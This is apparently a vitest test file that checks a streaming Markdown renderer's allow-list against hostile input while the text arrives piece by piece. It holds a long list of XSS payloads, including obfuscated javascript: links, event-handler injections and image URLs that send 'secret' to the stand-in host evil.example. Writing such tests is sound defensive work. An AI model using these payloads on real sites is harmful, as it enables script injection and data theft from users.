// @vitest-environment jsdom
import { JSDOM } from "jsdom";
import { expect, test } from "vitest";
import { MarkdownView } from "../../src/markdown/stream";
import { elements, pieces } from "./read";

/** Made by the allow-list; anything else would be a way in. */
const ELEMENTS = new Set([
  "p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "input", "blockquote", "hr", "br", "strong", "em", "del", "code", "pre", "a", "span",
  "div", "button", "table", "thead", "tbody", "tr", "th", "td",
]);
const ATTRIBUTES = new Set(["class", "href", "title", "target", "rel", "type", "disabled", "checked", "start", "tabindex", "data-md", "data-src"]);

const payloads = [
  "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href=javascript:alert(1)>x</a>", "<style>@import 'https://evil.example/x.css'</style>", "<link rel=stylesheet href=https://evil.example/x>",
  "<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<form action=https://evil.example><input name=x>",
  "<object data=https://evil.example/x>", "<embed src=https://evil.example/x>", "<video src=https://evil.example/x autoplay>", "<math><mi xlink:href='data:x'>",
  "<div style='background:url(https://evil.example/x)'>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<template><img src=x></template>",
  "![x](https://evil.example/?q=secret)", "![x][r]\n\n[r]: https://evil.example/?q=secret", "![x](//evil.example/x)", "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  "[![x](https://evil.example/a)](https://evil.example/b)", "![x](https://evil.example/ \"onerror=alert(1)\")", "![\" onerror=alert(1) x=\"](https://evil.example/)",
  "[x](javascript:alert(1))", "[x](  javascript:alert(1))", "[x](<javascript:alert(1)>)", "<javascript:alert(1)>", "[x](&#x6A;avascript:alert(1))",
  "[x](jav&Tab;ascript:alert(1))", "[x](jav&NewLine;ascript:alert(1))", "[x](\\javascript:alert(1))", "[x]: javascript:alert(1)\n\n[x]", "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:msgbox(1))", "[x](https://a.example \"\" onclick=alert(1))", "[x](https://a.example/\" onclick=\"alert(1))", "```\" onload=alert(1)\nx\n```",
  "```</code></pre><script>alert(1)</script>\nx\n```", "    <script>alert(1)</script>", "`<script>alert(1)</script>`", "| <img src=x onerror=alert(1)> |\n|--|\n| <script>1</script> |",
  "# <img src=x onerror=alert(1)>", "- <img src=x onerror=alert(1)>", "> <script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "<!-- --><script>alert(1)</script> -->",
  "<![CDATA[<script>alert(1)</script>]]>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "\u0000<script>alert(1)</script>", "<BR/onload=alert(1)>", "<br onload=alert(1)>",
  `${"> ".repeat(300)}<script>alert(1)</script>`, `${"- ".repeat(200)}[x](javascript:alert(1))`, `${"*a **b ".repeat(300)}<img src=x onerror=alert(1)>`,
  `${"[".repeat(2000)}x](javascript:alert(1))`,
];

function check(element: Element): void {
  for (const found of elements(element)) {
    if (!ELEMENTS.has(found.localName)) expect.fail(`element ${found.localName}`);
    for (const name of found.getAttributeNames()) if (!ATTRIBUTES.has(name)) expect.fail(`attribute ${name} of ${found.localName}`);
    const href = found.getAttribute("href");
    if (href !== null && !/^(https?|mailto):/.test(href)) expect.fail(`address ${href}`);
    if (found instanceof HTMLInputElement && found.type !== "checkbox") expect.fail(`input of type ${found.type}`);
  }
}

test("R63: hostile text makes no element, attribute or address outside the allow-list, at any moment of its stream", () => {
  for (const payload of payloads) {
    for (const text of [payload, `Before\n\n${payload}\n\nafter`]) {
      const draws: (() => void)[] = [];
      const view = new MarkdownView(document.createElement("div"), { frame: (draw) => draws.push(draw), cancelFrame: () => undefined });
      let sofar = "";
      for (const piece of pieces(text, text.length > 200 ? 97 : 1)) {
        view.set((sofar += piece));
        for (const draw of draws.splice(0)) draw();
        check(view.element);
      }
      view.finish(text);
      check(view.element);
      view.dispose();
    }
  }
});

test("R63: in a page where scripts and images work, hostile text runs and loads nothing", async () => {
  const dom = new JSDOM("<!doctype html><body>", { runScripts: "dangerously", url: "https://jupyter.example/lab" });
  const asked: string[] = [];
  dom.window.HTMLImageElement.prototype.setAttribute = function (name: string) { asked.push(name); };
  const ran: unknown[] = [];
  dom.window.alert = (what: unknown) => { ran.push(what); };
  // The control: the same page does run what is put in as HTML.
  dom.window.document.body.innerHTML = "<svg onload=alert('control')></svg>"; // eslint-disable-line no-restricted-properties
  dom.window.document.body.firstElementChild?.dispatchEvent(new dom.window.Event("load"));
  expect(ran).toEqual(["control"]);

  const host = dom.window.document.body;
  host.replaceChildren();
  for (const payload of payloads) {
    const view = new MarkdownView(document.createElement("div"));
    view.finish(payload);
    host.append(dom.window.document.adoptNode(view.element));
    for (const found of elements(view.element)) {
      for (const type of ["load", "error", "focus", "toggle", "mouseover"]) found.dispatchEvent(new dom.window.Event(type));
    }
  }
  await new Promise((resolve) => dom.window.setTimeout(resolve, 0));
  expect(ran).toEqual(["control"]);
  expect(asked).toEqual([]);
  dom.window.close();
});
